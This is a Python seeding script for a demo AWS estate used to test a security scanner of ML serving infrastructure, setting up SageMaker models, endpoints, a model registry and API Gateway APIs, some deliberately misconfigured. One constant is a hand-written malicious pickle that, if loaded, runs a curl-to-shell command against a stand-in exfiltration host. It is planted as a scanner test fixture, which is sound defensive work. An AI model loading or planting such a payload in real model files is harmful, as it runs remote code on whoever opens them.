"""The demo's serving side: SageMaker models, endpoints and a model package registry, API
Gateway in front of two endpoints, and the stray copies of models an estate accumulates."""

from __future__ import annotations

import json
from typing import Any

from scanner.demo import aws_estate as aws
from scanner.demo.registry_estate import RegistryEstate, mlmodel, safetensors_bytes

IMAGE = "763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-inference:2.5-cpu-py311"

# A pickle that would run a shell command when loaded: the scanner must flag it without
# ever loading it. Protocol 0 text, written out by hand so nothing here unpickles anything.
MALICIOUS_PICKLE = b"cos\nsystem\n(S'curl -s http://exfil.example/x | sh'\ntR."


def _bucket_key(uri: str) -> tuple[str, str]:
    bucket, _, key = uri.removeprefix("s3://").partition("/")
    return bucket, key


def seed_strays(s3: Any) -> None:
    aws.upload_model_files(
        s3,
        aws.PUBLIC_SHARE,
        "vendor-eval/fraud-detector",
        {"model.safetensors": safetensors_bytes(), "MLmodel": mlmodel("pytorch", "model")},
    )
    aws.upload_model_files(s3, aws.PARTNER, "models/churn-v0", {"model.pkl": MALICIOUS_PICKLE})
    s3.put_object(Bucket=aws.TRAINING, Key="tx/2026-q3.parquet", Body=b"PAR1" + bytes(64))


def _model(sm: Any, name: str, data_url: str, role: str, **extra: Any) -> None:
    sm.create_model(
        ModelName=name,
        ExecutionRoleArn=role,
        PrimaryContainer={"Image": IMAGE, "ModelDataUrl": data_url},
        **extra,
    )


def _endpoint(sm: Any, name: str, model: str, tags: dict[str, str], **config: Any) -> str:
    sm.create_endpoint_config(
        EndpointConfigName=f"{name}-config",
        ProductionVariants=[
            {
                "VariantName": "primary",
                "ModelName": model,
                "InitialInstanceCount": 1,
                "InstanceType": "ml.m5.large",
            }
        ],
        **config,
    )
    arn: str = sm.create_endpoint(
        EndpointName=name,
        EndpointConfigName=f"{name}-config",
        Tags=[{"Key": k, "Value": v} for k, v in tags.items()],
    )["EndpointArn"]
    return arn


def seed_sagemaker(server: Any, estate: aws.AwsEstate, registry: RegistryEstate) -> None:
    s3 = server.client("s3", aws.REGION)
    sm = server.client("sagemaker", aws.REGION)
    files = {"model.safetensors": safetensors_bytes()}

    # fraud-prod serves the MLflow production version: private subnet, data capture, KMS.
    fraud_tar = f"{registry.fraud.source}/model.tar.gz"
    s3.put_object(
        Bucket=_bucket_key(fraud_tar)[0],
        Key=_bucket_key(fraud_tar)[1],
        Body=aws.model_tarball(files),
    )
    _model(
        sm,
        "fraud-detector-v1",
        fraud_tar,
        estate.sagemaker_role,
        VpcConfig={"SecurityGroupIds": ["sg-0fraud"], "Subnets": [estate.subnets[0]]},
        EnableNetworkIsolation=True,
    )
    _endpoint(
        sm,
        "fraud-prod",
        "fraud-detector-v1",
        {"output_mode": "label"},
        DataCaptureConfig={
            "EnableCapture": True,
            "InitialSamplingPercentage": 100,
            "DestinationS3Uri": f"s3://{aws.ACCESS_LOGS}/capture/fraud-prod",
            "CaptureOptions": [{"CaptureMode": "Input"}, {"CaptureMode": "Output"}],
        },
    )

    # credit-prod serves a SageMaker-registered model; public subnet, no capture, full scores.
    group = "credit-scoring"
    sm.create_model_package_group(ModelPackageGroupName=group)
    credit_url = f"s3://{aws.ARTIFACTS}/sagemaker/credit-scoring/v1/model.tar.gz"
    s3.put_object(
        Bucket=aws.ARTIFACTS, Key=_bucket_key(credit_url)[1], Body=aws.model_tarball(files)
    )
    package = sm.create_model_package(
        ModelPackageGroupName=group,
        ModelApprovalStatus="Approved",
        InferenceSpecification={
            "Containers": [{"Image": IMAGE, "ModelDataUrl": credit_url}],
            "SupportedContentTypes": ["application/json"],
            "SupportedResponseMIMETypes": ["application/json"],
        },
        CustomerMetadataProperties={
            "owner": "credit-risk@acme.example",
            "classification": "restricted",
            "ip_value": "high",
            "authorized_deployments": "credit-prod",
        },
        MetadataProperties={
            "Repository": "https://git.example.com/ml/credit-scoring",
            "CommitId": "b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8",
            "GeneratedBy": "sagemaker-pipeline/credit-train",
        },
    )["ModelPackageArn"]
    _model(sm, "credit-scoring-v1", credit_url, estate.sagemaker_role)
    _endpoint(sm, "credit-prod", "credit-scoring-v1", {"output_mode": "scores"})
    del package

    # recommender-legacy still serves the archived MLflow version, in a VPC without flow logs.
    rec_tar = f"{registry.recommender.source}/model.tar.gz"
    s3.put_object(
        Bucket=_bucket_key(rec_tar)[0], Key=_bucket_key(rec_tar)[1], Body=aws.model_tarball(files)
    )
    _model(
        sm,
        "recommender-v1",
        rec_tar,
        estate.sagemaker_role,
        VpcConfig={"SecurityGroupIds": ["sg-0legacy"], "Subnets": [estate.subnets[1]]},
    )
    _endpoint(sm, "recommender-legacy", "recommender-v1", {})


def _rest_api(apigw: Any, name: str, endpoint: str, *, protected: bool) -> tuple[str, str]:
    api = apigw.create_rest_api(name=name)["id"]
    root = next(r["id"] for r in apigw.get_resources(restApiId=api)["items"] if r["path"] == "/")
    resource = apigw.create_resource(restApiId=api, parentId=root, pathPart="predict")["id"]
    apigw.put_method(
        restApiId=api,
        resourceId=resource,
        httpMethod="POST",
        authorizationType="AWS_IAM" if protected else "NONE",
        apiKeyRequired=protected,
    )
    apigw.put_integration(
        restApiId=api,
        resourceId=resource,
        httpMethod="POST",
        type="AWS",
        integrationHttpMethod="POST",
        uri=f"arn:aws:apigateway:{aws.REGION}:runtime.sagemaker:path//endpoints/{endpoint}/invocations",
    )
    apigw.create_deployment(restApiId=api, stageName="prod")
    return api, "prod"


def seed_gateways(server: Any) -> None:
    apigw = server.client("apigateway", aws.REGION)
    fraud_api, stage = _rest_api(apigw, "fraud-scoring-api", "fraud-prod", protected=True)
    apigw.update_stage(
        restApiId=fraud_api,
        stageName=stage,
        patchOperations=[
            {
                "op": "replace",
                "path": "/accessLogSettings/destinationArn",
                "value": f"arn:aws:logs:{aws.REGION}:{aws.ACCOUNT}:log-group:fraud-api-access",
            },
            {
                "op": "replace",
                "path": "/accessLogSettings/format",
                "value": json.dumps({"id": "$context.requestId"}),
            },
        ],
    )
    plan = apigw.create_usage_plan(
        name="fraud-partners",
        throttle={"rateLimit": 20.0, "burstLimit": 40},
        quota={"limit": 5000, "period": "DAY"},
        apiStages=[{"apiId": fraud_api, "stage": stage}],
    )["id"]
    key = apigw.create_api_key(name="partner-bank-1", enabled=True)["id"]
    apigw.create_usage_plan_key(usagePlanId=plan, keyId=key, keyType="API_KEY")
    _rest_api(apigw, "credit-quote-api", "credit-prod", protected=False)


def seed_serving(server: Any, estate: aws.AwsEstate, registry: RegistryEstate) -> None:
    seed_strays(server.client("s3", aws.REGION))
    seed_sagemaker(server, estate, registry)
    seed_gateways(server)
